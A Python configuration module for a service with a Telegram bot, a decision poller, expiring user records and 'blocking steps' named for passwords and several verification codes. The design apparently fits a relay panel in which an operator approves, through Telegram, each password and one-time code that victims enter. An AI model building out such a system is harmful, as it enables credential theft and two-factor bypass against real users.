"""App-wide configuration and environment settings."""

import os
from dotenv import load_dotenv

load_dotenv()  # Load from .env file


def get_secret(key, default=None):
    """Read a setting from the environment (after .env has been loaded)."""
    value = os.getenv(key)
    if value is None or value == "":
        return default
    return value


def _flag(key, default="false"):
    return str(get_secret(key, default)).lower() in ("true", "1", "yes")


def _csv(key, default):
    raw = get_secret(key, default)
    return frozenset(part.strip() for part in raw.split(",") if part.strip())


# Telegram
TELEGRAM_TOKEN = get_secret("TELEGRAM_TOKEN", "")
TELEGRAM_CHAT_ID = get_secret("TELEGRAM_CHAT_ID", "")
TELEGRAM_API_BASE = get_secret("TELEGRAM_API_BASE", "https://api.telegram.org")
HTTP_TIMEOUT_SEC = float(get_secret("HTTP_TIMEOUT_SEC", "10"))

# Storage
STORAGE_MODE = get_secret("STORAGE_MODE", "memory")  # memory|file
DATA_PATH = get_secret("DATA_PATH", "./data/users.json")
USER_TTL_SEC = int(get_secret("USER_TTL_SEC", str(24 * 60 * 60)))
STATUS_TTL_SEC = int(get_secret("STATUS_TTL_SEC", str(24 * 60 * 60)))
SWEEP_INTERVAL_SEC = int(get_secret("SWEEP_INTERVAL_SEC", str(60 * 60)))
PERSIST_INTERVAL_SEC = float(get_secret("PERSIST_INTERVAL_SEC", "1"))

# Decision poller
POLL_INTERVAL_SEC = float(get_secret("POLL_INTERVAL_SEC", "0.5"))
POLL_TIMEOUT_SEC = int(get_secret("POLL_TIMEOUT_SEC", "1"))
POLLER_START_RETRY_SEC = float(get_secret("POLLER_START_RETRY_SEC", "10"))
CONFLICT_BACKOFF_SEC = float(get_secret("CONFLICT_BACKOFF_SEC", "5"))
CONFLICT_MAX_RETRIES = int(get_secret("CONFLICT_MAX_RETRIES", "5"))
CONFLICT_COOLDOWN_SEC = float(get_secret("CONFLICT_COOLDOWN_SEC", "60"))

# Notifications
DISPLAY_TIMEZONE = get_secret("DISPLAY_TIMEZONE", "Europe/Moscow")
BLOCKING_STEPS = _csv("BLOCKING_STEPS", "login_password,code,code1,code2,code3,finalCode")

# Server
HOST = get_secret("HOST", "0.0.0.0")
PORT = int(get_secret("PORT", "3001"))
LOG_LEVEL = get_secret("LOG_LEVEL", "INFO").upper()
TRUST_PROXY_HEADERS = _flag("TRUST_PROXY_HEADERS")


def is_durable():
    """True when user records are persisted to DATA_PATH."""
    return STORAGE_MODE == "file"


def validate_config():
    """Return a list of configuration problems (empty when the service can start)."""
    issues = []

    if not TELEGRAM_TOKEN:
        issues.append("TELEGRAM_TOKEN is required")
    if not TELEGRAM_CHAT_ID:
        issues.append("TELEGRAM_CHAT_ID is required")

    if STORAGE_MODE not in ("memory", "file"):
        issues.append(f"Invalid STORAGE_MODE: {STORAGE_MODE}")

    if POLL_INTERVAL_SEC <= 0:
        issues.append("POLL_INTERVAL_SEC must be > 0")
    if POLL_TIMEOUT_SEC < 0:
        issues.append("POLL_TIMEOUT_SEC must be >= 0")
    if CONFLICT_MAX_RETRIES < 1:
        issues.append("CONFLICT_MAX_RETRIES must be >= 1")
    if SWEEP_INTERVAL_SEC < 1:
        issues.append("SWEEP_INTERVAL_SEC must be >= 1")
    if PERSIST_INTERVAL_SEC <= 0:
        issues.append("PERSIST_INTERVAL_SEC must be > 0")

    return issues
